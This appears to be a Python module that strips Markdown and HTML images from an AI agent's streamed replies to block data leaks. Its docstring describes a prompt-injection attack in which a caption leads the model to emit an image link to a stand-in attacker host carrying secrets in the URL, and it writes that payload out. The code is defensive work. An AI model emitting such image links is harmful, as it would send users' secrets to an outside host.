"""Removing images from the agent's replies, also while they stream.

An image in a reply is fetched by the browser as soon as it renders, so a caption that talks the
model into writing ``![](https://evil.example/?d=<secrets>)`` would leak data without a click
(OWASP LLM05). Replies therefore never contain Markdown images (inline ``![a](u)``, reference
``![a][r]`` or shortcut ``![a]``) nor HTML ``<img>`` tags.

The filter is chunking-independent: streamed deltas go through :class:`ImageFilter`, which holds
back a possible construct until it is decided, and :func:`strip_images` is the same filter over
the whole text, so the streamed reply and the stored one are identical. A construct that stays
open too long is defused by dropping its ``!`` or ``<``, so a late ``](url)`` cannot complete it.
"""

from __future__ import annotations

import re
from enum import Enum, auto

_ALT = r"[^\]]{0,500}"
_URL = r"[^)]{0,2000}"
_INLINE_OR_REFERENCE = re.compile(rf"!\[{_ALT}\](?:\({_URL}\)|\[{_ALT}\])")
_SHORTCUT = re.compile(rf"!\[{_ALT}\]")
_OPEN_IMAGE = re.compile(rf"!(?:\[{_ALT}(?:\](?:\({_URL}|\[{_ALT})?)?)?")
_HTML_IMAGE = re.compile(r"<img\b[^>]{0,2000}>", re.IGNORECASE)
_HTML_IMAGE_START = re.compile(r"<img[\s/]", re.IGNORECASE)
_OPEN_HTML_IMAGE = re.compile(r"<(?:i(?:m(?:g(?:[\s/][^>]{0,2000})?)?)?)?", re.IGNORECASE)


class _Verdict(Enum):
    KEEP = auto()
    DROP = auto()
    DEFUSE = auto()
    HOLD = auto()


def _examine_bang(text: str, at: int, final: bool) -> tuple[_Verdict, int]:
    if match := _INLINE_OR_REFERENCE.match(text, at) or _closed_shortcut(text, at, final):
        return _Verdict.DROP, match.end()
    if _OPEN_IMAGE.fullmatch(text, at):
        if final:  # a lone "!" ending the reply is punctuation; anything longer is defused
            return (_Verdict.KEEP if at + 1 == len(text) else _Verdict.DEFUSE), at + 1
        return _Verdict.HOLD, at + 1
    if text.startswith("![", at):
        return _Verdict.DEFUSE, at + 1  # open too long to be decided: never let it close
    return _Verdict.KEEP, at + 1


def _closed_shortcut(text: str, at: int, final: bool) -> re.Match[str] | None:
    """``![alt]`` followed by neither ``(`` nor ``[`` (at the very end: only once final)."""
    match = _SHORTCUT.match(text, at)
    if match is None:
        return None
    following = text[match.end() : match.end() + 1]
    if (following and following not in "([") or (not following and final):
        return match
    return None


def _examine_angle(text: str, at: int, final: bool) -> tuple[_Verdict, int]:
    if match := _HTML_IMAGE.match(text, at):
        return _Verdict.DROP, match.end()
    if _OPEN_HTML_IMAGE.fullmatch(text, at):
        if final:
            return (_Verdict.KEEP if at + 1 == len(text) else _Verdict.DEFUSE), at + 1
        return _Verdict.HOLD, at + 1
    if _HTML_IMAGE_START.match(text, at):
        return _Verdict.DEFUSE, at + 1  # open too long to be decided: never let it close
    return _Verdict.KEEP, at + 1


def _process(text: str, *, final: bool) -> tuple[str, str]:
    """Filter ``text``; returns what is safe to emit and what must wait for more text."""
    out: list[str] = []
    position = 0
    for candidate in re.finditer(r"[!<]", text):
        at = candidate.start()
        if at < position:
            continue  # inside a construct already dropped
        out.append(text[position:at])
        examine = _examine_bang if text[at] == "!" else _examine_angle
        verdict, end = examine(text, at, final)
        if verdict is _Verdict.HOLD:
            return "".join(out), text[at:]
        if verdict is _Verdict.KEEP:
            out.append(text[at])
        position = end
    out.append(text[position:])
    return "".join(out), ""


class ImageFilter:
    """Feed streamed text deltas in, emit image-free text out; :meth:`flush` at the end."""

    def __init__(self) -> None:
        self._held = ""

    def feed(self, delta: str) -> str:
        ready, self._held = _process(self._held + delta, final=False)
        return ready

    def flush(self) -> str:
        ready, _ = _process(self._held, final=True)
        self._held = ""
        return ready


def strip_images(text: str) -> str:
    """``text`` without Markdown or HTML images (exactly what streaming it would emit)."""
    images = ImageFilter()
    return images.feed(text) + images.flush()
